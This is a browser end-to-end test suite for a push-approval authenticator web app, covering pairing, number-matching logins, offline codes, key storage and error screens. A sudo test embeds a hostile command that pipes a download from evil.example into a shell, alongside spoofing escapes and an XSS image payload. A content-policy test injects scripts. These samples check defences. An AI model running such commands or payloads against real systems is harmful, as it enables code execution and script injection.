// SPDX-License-Identifier: Apache-2.0
// The app in Chromium, against a real toopherd: what a person does, and what may go wrong.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import decodeQR from '../../../src/web/vendor/qr/decode.js';
import { look, SCREENS } from '../support/look.js';
import { PhoneBrowser, Server } from '../support/world.js';

const REASON = { denied: 1000, notMe: 1001, wrongNumber: 1002, expired: 1003 };
const FIRST_LOAD = 40 * 1024; // bytes
const SLOW_4G = { offline: false, latency: 562.5, downloadThroughput: 180_000, uploadThroughput: 84_375 }; // DevTools: ms, bytes/s
const LOADED = 2; // times as long for a machine that does other things as well

let server;
let phone; // paired with `jdoe`
let broken; // the first test that failed: those that follow stand where it stopped

function step(name, work) {
  test(name, async (t) => {
    if (broken) return t.skip(`after "${broken}"`);
    try {
      return await work(t);
    } catch (error) {
      broken = name;
      await phone?.page.screenshot({ path: `${SCREENS}/failed.png` }).catch(() => {});
      throw error;
    }
  });
}

before(async () => {
  server = await Server.start();
  phone = await PhoneBrowser.open(server);
});
after(async () => {
  await phone?.end();
  await server?.end();
});

const outcome = (login) => server.get(`authentication_requests/${login.id}`);
const wrong = (number) => String(number === '99' ? 10 : Number(number) + 1);
const number = () => phone.page.getByLabel('Number shown at the login');
const done = async (title) => {
  await phone.heading(title);
  await phone.button('Done').click();
  await phone.page.locator('.digits').first().waitFor();
};

/** The code on the screen, once it will hold for a while. */
async function code(of = phone) {
  await of.page.waitForFunction(() => Number(document.querySelector('.pairing .ring-number')?.textContent) > 4);
  return (await of.page.locator('.digits').first().innerText()).replace(' ', '');
}

/** A phone of its own for one test. */
async function withPhone(options, work) {
  const other = await PhoneBrowser.open(server, options);
  try {
    await work(other);
    assert.deepEqual(other.problems, []);
  } finally {
    await other.end();
  }
}

/** How many bytes come over the wire until the first screen can be used. */
async function firstLoad(locale) {
  let bytes = 0;
  await withPhone({ locale }, async (fresh) => {
    const page = await fresh.context.newPage();
    const cdp = await fresh.context.newCDPSession(page);
    await cdp.send('Network.enable');
    await cdp.send('Network.setCacheDisabled', { cacheDisabled: true });
    await cdp.send('Network.setBypassServiceWorker', { bypass: true });
    cdp.on('Network.loadingFinished', ({ encodedDataLength }) => { bytes += encodedDataLength; });
    await page.goto(`${server.url}/`, { waitUntil: 'networkidle' });
    await page.locator('h1').waitFor();
  });
  return bytes;
}

step('the first load is small', async (t) => {
  for (const locale of ['en-GB', 'de-DE']) {
    const bytes = await firstLoad(locale);
    t.diagnostic(`${locale}: ${bytes} bytes`);
    assert.ok(bytes > 10_000 && bytes <= FIRST_LOAD, `${locale}: ${bytes} bytes`);
  }
});

/** Milliseconds until the first screen can be used on a slow network. */
async function slowStart(cdp, page) {
  await cdp.send('Network.enable');
  await cdp.send('Network.emulateNetworkConditions', SLOW_4G);
  const began = Date.now();
  await page.goto(`${server.url}/`, { waitUntil: 'commit' });
  await page.getByRole('button', { name: 'Pair this phone' }).waitFor();
  return Date.now() - began;
}

step('it can be used soon on a slow network', async (t) => {
  await phone.ready();
  for (const [way, most] of [['from the worker', 1000], ['without it', 3000]]) {
    const page = await phone.context.newPage();
    const cdp = await phone.context.newCDPSession(page);
    if (way === 'without it') {
      await cdp.send('Network.enable');
      await cdp.send('Network.setCacheDisabled', { cacheDisabled: true });
      await cdp.send('Network.setBypassServiceWorker', { bypass: true });
    }
    const time = await slowStart(cdp, page);
    t.diagnostic(`${way}: ${time} ms`);
    assert.ok(time <= most * LOADED, `${way}: ${time} ms`);
    await page.close();
  }
});

step('a phone is paired by a phrase, and its codes are accepted', async () => {
  await phone.heading('Your logins, confirmed by you');
  await look(phone, 'welcome');
  await phone.button('Pair this phone').click();
  await phone.page.getByLabel('Name of this phone').fill('Jane\'s phone');
  await look(phone, 'pair-name');
  await phone.button('Continue').click();
  await phone.page.locator('.phrase').waitFor();
  await look(phone, 'pair-phrase');
  const phrase = (await phone.page.locator('.phrase').innerText()).trim().split(/\s+/).join(' ');
  assert.match(phrase, /^[a-z]+( [a-z]+){3}$/);
  const pairing = await server.post('pairings/create', { pairing_phrase: phrase, user_name: 'jdoe' });
  await phone.heading('Pair with this account?');
  await look(phone, 'pair-question');
  await phone.button('Pair').click();
  await phone.heading('Paired');
  await look(phone, 'paired');
  assert.equal((await server.get(`pairings/${pairing.id}`)).enabled, true);
  await phone.button('Show my codes').click();
  await phone.page.locator('.digits').waitFor();
  await look(phone, 'home');
  const login = await server.login('jdoe', { otp: await code() });
  assert.equal(login.granted, true);
});

step('a pairing that was not asked for is denied', async () => {
  const pairing = await server.post('pairings/create', { pairing_phrase: await phone.phrase(), user_name: 'mallory' });
  await phone.heading('Pair with this account?');
  await phone.button('Do not pair').click();
  await phone.heading('Not paired');
  assert.equal((await server.get(`pairings/${pairing.id}`)).enabled, false);
  await done('Not paired');
});

step('a login is allowed with its number', async () => {
  const login = await server.login('jdoe');
  await phone.heading('Is this you?');
  const allow = phone.button('Allow');
  for (const text of ['web1.example.org', '203.0.113.9', 'SSH login'])
    await phone.page.getByText(text, { exact: true }).first().waitFor();
  await number().fill(login.number.slice(0, 1));
  await phone.page.waitForFunction(() => !document.querySelector('.button.text').disabled);
  assert.ok(await allow.isDisabled(), 'Allow waits for the whole number');
  await look(phone, 'request');
  await number().fill(login.number);
  await allow.click();
  await phone.heading('Allowed');
  await look(phone, 'allowed');
  assert.equal((await outcome(login)).granted, true);
  await done('Allowed');
});

step('the keyboard alone is enough', async () => {
  const login = await server.login('jdoe');
  await phone.heading('Is this you?');
  await phone.page.waitForFunction(() => document.activeElement.tagName === 'H1');
  await phone.page.waitForFunction(() => !document.querySelector('.button.text').disabled);
  await phone.page.keyboard.press('Tab'); // whether to ask again
  await phone.page.keyboard.press('Tab');
  await phone.page.keyboard.type(login.number);
  await phone.page.keyboard.press('Enter');
  await phone.heading('Allowed');
  assert.equal((await outcome(login)).granted, true);
  await done('Allowed');
});

step('a wrong number ends the login', async () => {
  const login = await server.login('jdoe');
  await number().fill(wrong(login.number));
  await phone.button('Allow').click();
  await phone.heading('Wrong number');
  await look(phone, 'wrong-number');
  const { granted, reason_code: reason } = await outcome(login);
  assert.deepEqual([granted, reason], [false, REASON.wrongNumber]);
  await done('Wrong number');
});

step('a login is denied', async () => {
  const login = await server.login('jdoe');
  await phone.button('Deny').click();
  await phone.heading('Denied');
  await look(phone, 'denied');
  assert.equal((await outcome(login)).reason_code, REASON.denied);
  await done('Denied');
});

step('a sudo shows its command, with nothing hidden', async () => {
  await phone.pair('eve');
  const command = 'sh -c \'curl evil.example | sh\' # \u202egnp.exe \u001b[2J<img src=x onerror=document.title=1>';
  await server.login('eve', {
    action_name: 'sudo', terminal_name: 'web1.example.org', number_matching: 'false',
    metadata: { service: 'sudo', rhost: '', tty: '/dev/pts/3', target: 'root', directory: '/home/eve', command, verified: false },
  });
  await phone.heading('Is this you?');
  const text = await phone.page.locator('dd.command').first().innerText();
  assert.ok(text.includes('\\u202egnp.exe \\x1b[2J<img src=x onerror=document.title=1>'), text);
  assert.equal(await phone.page.locator('img').count(), 0);
  await phone.page.getByText('Not verified', { exact: false }).waitFor();
  await phone.page.waitForFunction(() => !document.querySelector('.button.primary').disabled);
  await look(phone, 'request-sudo');
  await phone.button('Allow').click();
  await done('Allowed');
});

step('what adds a factor, and several at once, are warned of', async () => {
  const first = await server.login('eve', { action_name: 'pair another phone', metadata: { service: 'toopher-pair' }, ttl: 120 });
  await phone.heading('Is this you?');
  await phone.page.getByText('what it adds can log in as you', { exact: false }).waitFor();
  await look(phone, 'request-factor');
  await phone.button('Back').click();
  const second = await server.login('eve', { ttl: 120 });
  await phone.page.getByText('Waiting for your answer').waitFor();
  await phone.page.waitForFunction(() => document.querySelectorAll('.waiting-card').length === 2);
  await look(phone, 'home-waiting');
  await phone.page.locator('.waiting-card').nth(1).click();
  await phone.page.getByText('1 more request waits for you', { exact: false }).waitFor();
  await phone.button('This was not me').click();
  await phone.page.getByRole('dialog').waitFor();
  await look(phone, 'report');
  await phone.button('Report and deny').click();
  await phone.heading('Denied and reported');
  await look(phone, 'reported');
  const reasons = [(await outcome(first)).reason_code, (await outcome(second)).reason_code];
  assert.ok(reasons.includes(REASON.notMe), String(reasons));
  assert.ok((await server.audit()).some(({ event }) => event === 'ALERT not me'));
  await done('Denied and reported');
});

step('a request ends while its screen is open', async () => {
  await phone.pair('frank');
  const late = await server.login('frank', { ttl: 5 });
  await phone.heading('Is this you?');
  await phone.heading('Too late');
  await look(phone, 'expired');
  assert.equal((await outcome(late)).reason_code, REASON.expired);
  await done('Too late');
  const given_up = await server.login('frank');
  await phone.heading('Is this you?');
  await server.post(`authentication_requests/${given_up.id}/cancel`, {});
  await phone.heading('Over');
  await look(phone, 'over');
  await done('Over');
});

step('another phone was faster', async () => {
  await withPhone({}, async (other) => {
    const approval = await server.login('frank', { action_name: 'pair another phone', metadata: { service: 'toopher-pair' } });
    await number().fill(approval.number);
    await phone.button('Allow').click();
    await done('Allowed');
    await other.pair('frank', { authorization: approval.id });
    const login = await server.login('frank');
    await number().fill(login.number);
    await phone.page.route('**/decision', async (route) => {
      await other.page.getByLabel('Number shown at the login').fill(login.number);
      await other.button('Allow').click();
      await other.heading('Allowed');
      await route.continue();
    });
    await phone.button('Allow').click();
    await phone.heading('Over');
    await phone.page.unroute('**/decision');
    await done('Over');
  });
});

step('the history tells how each ended', async () => {
  await phone.button('History').click();
  await phone.heading('History');
  const rows = await phone.page.locator('.history li').allInnerTexts();
  for (const text of ['Allowed', 'Denied', 'Wrong number', 'Reported', 'Expired', 'Over'])
    assert.ok(rows.some((row) => row.includes(`\n${text} ·`) || row.includes(`${text} ·`)), `${text} in ${rows.join('|')}`);
  await look(phone, 'history');
  await phone.button('Clear the history').click();
  await phone.button('History').click();
  await phone.page.getByText('Nothing yet.').waitFor();
  await phone.button('Back').click();
});

step('a pairing is renamed on this phone', async () => {
  await phone.page.getByRole('button', { name: 'Details of frank' }).click();
  await phone.page.getByLabel('Name on this phone').fill('Work');
  await look(phone, 'pairing');
  await phone.button('Save').click();
  await phone.page.getByRole('heading', { name: 'Work' }).waitFor();
});

step('what is allowed for some days is not asked for again, until that is ended', async () => {
  const asking = { number_matching: 'false', metadata: { service: 'sudo' }, action_name: 'sudo', terminal_name: 'laptop' };
  const first = await server.login('frank', asking);
  await phone.page.getByLabel('Ask again for this?').selectOption('Not for 7 days');
  await phone.page.waitForFunction(() => !document.querySelector('.button.primary').disabled);
  await look(phone, 'request-memory');
  await phone.button('Allow').click();
  await done('Allowed');
  assert.equal((await outcome(first)).granted, true);
  const second = await server.login('frank', asking);
  assert.deepEqual([second.granted, second.automated], [true, true]);
  await phone.page.getByRole('button', { name: 'Details of Work' }).click();
  await phone.button('Allowed without asking').click();
  await phone.page.getByText('laptop').waitFor();
  await look(phone, 'rules');
  await phone.button('Ask again from now on').click();
  await phone.page.getByText('every login is asked for', { exact: false }).waitFor();
  await phone.button('Back').click();
  const third = await server.login('frank', asking);
  assert.equal(third.pending, true);
  await phone.button('Deny').click();
  await done('Denied');
});

/** What a camera reads on the screen, which it sees in several ways: the decoder does not find every code in each. */
async function readCode() {
  const picture = (await phone.page.locator('.qr').screenshot({ animations: 'disabled' })).toString('base64');
  const page = await phone.context.newPage(); // without the policy of the app's page
  const see = (scale, degrees) => page.evaluate(async ([png, times, angle]) => {
    const image = await createImageBitmap(await (await fetch(`data:image/png;base64,${png}`)).blob());
    const side = Math.round(1.5 * image.width * times);
    const context = new OffscreenCanvas(side, side).getContext('2d');
    context.fillStyle = '#fff';
    context.fillRect(0, 0, side, side);
    context.translate(side / 2, side / 2);
    context.rotate(angle * Math.PI / 180);
    context.scale(times, times);
    context.drawImage(image, -image.width / 2, -image.height / 2);
    const reader = new FileReader();
    const read = new Promise((resolve) => { reader.onload = resolve; });
    reader.readAsDataURL(new Blob([context.getImageData(0, 0, side, side).data]));
    await read;
    return { side, pixels: reader.result.split(',')[1] };
  }, [picture, scale, degrees]);
  const failures = [];
  try {
    for (const [scale, degrees] of [[1, 0], [1, 3], [0.9, -5], [1.2, 9]]) {
      const { side, pixels } = await see(scale, degrees);
      try {
        return decodeQR({ width: side, height: side, data: Uint8Array.from(Buffer.from(pixels, 'base64')) });
      } catch (error) {
        failures.push(error.message);
      }
    }
  } finally {
    await page.close();
  }
  throw new Error(`the code cannot be read: ${failures}`);
}

step('another code app is set up once, its codes let in, and it is removed', async () => {
  await phone.page.getByRole('button', { name: 'Details of Work' }).click();
  await phone.button('Another code app').click();
  await phone.heading('Another code app');
  await phone.button('Show the QR code').click();
  await phone.heading('Scan it now');
  await look(phone, 'code-app-link');
  await phone.page.emulateMedia({ colorScheme: 'dark' });
  const link = await readCode();
  await phone.page.emulateMedia({ colorScheme: 'light' });
  assert.match(link, /^otpauth:\/\/totp\/[^/]+:frank\?secret=[A-Z2-7]{32}&/);
  assert.equal(await phone.page.getByRole('link', { name: 'Open in an app here' }).getAttribute('href'), link);
  await phone.button('Copy the link').click();
  await phone.page.getByText('Copied').waitFor();
  assert.equal(await phone.page.evaluate(() => navigator.clipboard.readText()), link);
  await phone.page.evaluate(() => navigator.clipboard.writeText(''));
  assert.equal((await server.login('frank', { otp: await server.call({ call: 'code_of', link }) })).granted, true);

  await phone.page.evaluate(() => {
    Object.defineProperty(document, 'visibilityState', { get: () => 'hidden', configurable: true });
    document.dispatchEvent(new Event('visibilitychange'));
    delete document.visibilityState;
  });
  await phone.page.getByText('Set up so far').waitFor();
  await phone.page.getByText('Jane\'s phone').waitFor();
  await look(phone, 'code-apps');
  const secret = new URL(link).searchParams.get('secret');
  const left = await phone.page.evaluate(async () => {
    const stored = JSON.stringify([{ ...localStorage }, { ...sessionStorage }, history.state, location.href]);
    const db = await new Promise((resolve) => { indexedDB.open('toopher').onsuccess = ({ target }) => resolve(target.result); });
    const texts = await Promise.all([...db.objectStoreNames].map((store) => new Promise((resolve) => {
      db.transaction(store).objectStore(store).getAll().onsuccess = ({ target }) => resolve(JSON.stringify(target.result));
    })));
    db.close();
    const cached = await Promise.all((await caches.keys()).map(async (name) => (await (await caches.open(name)).keys()).map(({ url }) => url)));
    return document.documentElement.outerHTML + stored + texts.join() + cached.join();
  });
  assert.ok(left.includes('Set up so far') && left.includes('frank'));
  assert.ok(!left.includes(secret) && !left.includes('<path d="M4 4h1'), 'the link is kept');

  await phone.button('Remove').click();
  await phone.page.getByRole('dialog').waitFor();
  await phone.page.getByRole('dialog').getByRole('button', { name: 'Remove' }).click();
  await phone.page.getByText('Set up so far').waitFor({ state: 'detached' });
  assert.equal((await server.login('frank', { otp: await server.call({ call: 'code_of', link, steps: 1 }) })).granted ?? false, false);
  await phone.button('Back').click();
});

step('codes go on without network, after a reload and a restart', async () => {
  await phone.ready();
  await phone.context.setOffline(true);
  await phone.page.reload();
  await phone.page.locator('.digits').first().waitFor();
  await phone.page.getByText('The server cannot be reached', { exact: false }).waitFor();
  await look(phone, 'offline');
  const typed = await code();
  await phone.context.setOffline(false);
  assert.equal((await server.login('jdoe', { otp: typed })).granted, true);
  await phone.close();
  await phone.start();
  const login = await server.login('jdoe');
  await number().fill(login.number);
  await phone.button('Allow').click();
  await done('Allowed');
  assert.equal((await outcome(login)).granted, true, 'the signing key has survived');
});

step('keys cannot be read out', async () => {
  const extractable = await phone.page.evaluate(async () => {
    const db = await new Promise((resolve) => { indexedDB.open('toopher').onsuccess = ({ target }) => resolve(target.result); });
    const all = (store) => new Promise((resolve) => { db.transaction(store).objectStore(store).getAll().onsuccess = ({ target }) => resolve(target.result); });
    const [device] = await all('device');
    const pairings = await all('pairings');
    db.close();
    return [device.signingKey, device.agreementKey, ...pairings.map((one) => one.codeKey)].map((key) => key.extractable);
  });
  assert.ok(extractable.length >= 4);
  assert.ok(extractable.every((is) => is === false));
  assert.deepEqual(await phone.context.cookies(), []);
});

step('the policy of the page stops scripts that somebody put in', async () => {
  const result = await phone.page.evaluate(async () => {
    const violated = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.push(effectiveDirective));
    const inline = document.createElement('script');
    try {
      inline.textContent = 'globalThis.broken = 1';
    } catch {
      inline.append('globalThis.broken = 1');
    }
    document.body.append(inline);
    let markup = 'taken';
    try {
      document.body.firstElementChild.innerHTML = '<img src=x onerror="globalThis.broken = 2">';
    } catch (error) {
      markup = error.name;
    }
    const elsewhere = await fetch('https://example.org/').then(() => 'fetched', () => 'stopped');
    await new Promise((resolve) => { setTimeout(resolve, 100); });
    return { broken: globalThis.broken, markup, elsewhere, violated };
  });
  assert.equal(result.broken, undefined);
  assert.equal(result.markup, 'TypeError');
  assert.equal(result.elsewhere, 'stopped');
  assert.ok(result.violated.includes('connect-src'), String(result.violated));
  assert.ok(result.violated.some((one) => one.startsWith('script-src') || one === 'require-trusted-types-for'), String(result.violated));
});

step('a server that was away comes back', async () => {
  await server.call({ call: 'stop' });
  await phone.page.getByText('The server cannot be reached', { exact: false }).waitFor();
  await phone.button('Pair with another account').click();
  await phone.heading('The server cannot be reached');
  await look(phone, 'unreachable');
  await server.call({ call: 'start' });
  await phone.button('Try again').click();
  await phone.page.locator('.phrase').waitFor();
  await phone.button('Back').click();
  await phone.page.getByText('The server cannot be reached', { exact: false }).waitFor({ state: 'detached' });
});

step('a phrase that has expired says so', async () => {
  await phone.page.route('**/phrases', async (route) => {
    const answer = await route.fetch();
    await route.fulfill({ response: answer, json: { ...(await answer.json()), expires_in: 2 } });
  });
  await phone.button('Pair with another account').click();
  await phone.heading('The phrase has expired');
  await look(phone, 'phrase-expired');
  await phone.page.unroute('**/phrases');
  await phone.button('Make a new phrase').click();
  await phone.page.locator('.phrase').waitFor();
  await phone.button('Back').click();
});

step('a phrase is good once, and a question that nobody waits for any more says so', async () => {
  const phrase = await phone.phrase();
  const asked = await server.post('pairings/create', { pairing_phrase: phrase, user_name: 'trent' });
  await phone.heading('Pair with this account?');
  await assert.rejects(server.post('pairings/create', { pairing_phrase: phrase, user_name: 'mallory' }), /No pending pairing requests/);
  await server.call({ call: 'end_pairing', id: asked.id });
  await phone.heading('Too late');
  await phone.page.getByText('Make a new phrase and type it there', { exact: false }).waitFor();
  await look(phone, 'pairing-over');
  await phone.button('Make a new phrase').click();
  await phone.page.locator('.phrase').waitFor();
  await phone.button('Back').click();
});

step('a pairing that was ended at the server shows no codes', async () => {
  const ended = await phone.pair('grace');
  await server.call({ call: 'end_pairing', id: ended.id });
  await phone.page.reload();
  await phone.page.getByText('Ended at the server', { exact: false }).waitFor();
  await look(phone, 'ended');
  await phone.page.getByRole('button', { name: 'Details of grace' }).click();
  await phone.button('Remove this pairing').click();
  await phone.page.getByRole('dialog').waitFor();
  await look(phone, 'remove');
  await phone.button('Remove').click();
  await phone.page.getByRole('heading', { name: 'grace' }).waitFor({ state: 'detached' });
});

step('a phone that the server knows no more says so, and begins again', async () => {
  await withPhone({}, async (lost) => {
    await lost.pair('heidi');
    await lost.page.route('**/authenticator/v1/**', (route) => route.fulfill({
      status: 401, json: { error_code: 401, error_message: 'This device is not registered here.', server_time: Math.floor(Date.now() / 1000) },
    }));
    await lost.page.reload();
    await lost.page.getByText('The server does not accept this phone', { exact: false }).waitFor();
    await look(lost, 'unknown');
    await lost.button('Set up again').click();
    await lost.heading('Set up this phone again?');
    await look(lost, 'anew');
    await lost.button('Delete and begin again').click();
    await lost.heading('Your logins, confirmed by you');
  });
});

step('a clock that is wrong by an hour is told, and codes are right while the server is there', async () => {
  await withPhone({}, async (wrongly) => {
    await wrongly.context.addInitScript(() => {
      const now = Date.now.bind(Date);
      Date.now = () => now() + 3_600_000;
    });
    await wrongly.page.reload();
    await wrongly.pair('ivan');
    await wrongly.page.getByText('clock is 60 minutes ahead', { exact: false }).waitFor();
    await look(wrongly, 'clock');
    assert.equal((await server.login('ivan', { otp: await code(wrongly) })).granted, true);
    await wrongly.ready();
    await wrongly.context.setOffline(true);
    await wrongly.page.reload();
    await wrongly.page.getByText('The codes below will be refused', { exact: false }).waitFor();
  });
});

step('keys that the browser has deleted are missed', async () => {
  await withPhone({}, async (emptied) => {
    await emptied.pair('judy');
    const cdp = await emptied.context.newCDPSession(emptied.page);
    await cdp.send('Storage.clearDataForOrigin', { origin: server.url, storageTypes: 'indexeddb' });
    await emptied.page.reload();
    await emptied.page.getByText('the browser has deleted its keys', { exact: false }).waitFor();
    await look(emptied, 'emptied');
  });
});

step('on an iPhone the app is installed first, and it speaks German', async () => {
  const userAgent = 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Version/17.4 Mobile/15E148 Safari/604.1';
  await withPhone({ userAgent, locale: 'de-DE' }, async (iphone) => {
    await iphone.heading('Ihre Anmeldungen, von Ihnen bestätigt');
    await iphone.page.getByText('Zum Home-Bildschirm', { exact: false }).waitFor();
    assert.equal(await iphone.page.evaluate(() => document.documentElement.lang), 'de');
    await look(iphone, 'welcome-ios-de');
  });
});

step('no script has failed meanwhile', () => assert.deepEqual(phone.problems, []));
